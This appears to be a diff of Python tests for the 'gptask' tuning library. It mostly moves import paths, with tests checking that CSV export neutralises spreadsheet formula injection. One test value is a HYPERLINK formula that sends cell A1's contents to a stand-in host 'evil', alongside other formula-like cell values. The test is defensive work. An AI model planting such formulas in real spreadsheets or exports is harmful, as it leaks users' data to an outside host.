@@ -14,7 +14,7 @@ from pathlib import Path
 import pytest
 
 import gptask as gt
-from gptask.cli import main
+from gptask.cli.main import main
 from gptask.insight.export import c_comment_text, c_string_literal, to_c_header
 from gptask.insight.selection import Entry, SelectionTable
 
@@ -212,9 +212,9 @@ def _formula_cells(text: str) -> list[str]:
 
 
 def test_gptask_export_guards_every_text_cell_and_fit_reads_it_back(tmp_path):
-    from gptask.importing.rows import read_rows
-    from gptask.storage import SQLiteStorage
-    from gptask.storage.export import to_csv
+    from gptask.sources.importing.rows import read_rows
+    from gptask.data.storage import SQLiteStorage
+    from gptask.data.storage.export import to_csv
 
     tasks = gt.Space([gt.Categorical("kind", ["=1+1", "+cmd", "@SUM(A1)"])])
     params = gt.Space([gt.Categorical("op", ["-x", "ok"]), gt.Integer("shift", -9, 9), gt.Ordinal("mode", ["=a", "b"])])
@@ -241,9 +241,9 @@ def test_gptask_export_guards_every_text_cell_and_fit_reads_it_back(tmp_path):
 
 
 def test_a_kernel_tuner_device_name_formula_stays_text_in_the_export(tmp_path):
-    from gptask.replay import read_recording, replay_problem
-    from gptask.storage import SQLiteStorage
-    from gptask.storage.export import to_csv
+    from gptask.sources.replay import read_recording, replay_problem
+    from gptask.data.storage import SQLiteStorage
+    from gptask.data.storage.export import to_csv
 
     device = '=HYPERLINK("http://evil/?"&A1,"click")'
     kt = {"device_name": device, "tune_params_keys": ["bs"], "tune_params": {"bs": [32, 64]}, "objective": "time",
@@ -282,7 +282,7 @@ def test_export_table_keeps_the_unit_and_names_the_objective_without_the_problem
     res = gt.tune(prob, tasks=[{"t": 0.2}, {"t": 0.8}], budget=5, n_initial=4, seed=0, progress=False)
     res.save_model(tmp_path / "m.json", accuracy=False)
     # a model saved again from the loaded model (no problem) keeps the unit too
-    from gptask.model_io import save_model
+    from gptask.transfer.model_io import save_model
 
     save_model(gt.load_model(tmp_path / "m.json"), tmp_path / "again.json", accuracy=False)
     for name in ("m.json", "again.json"):
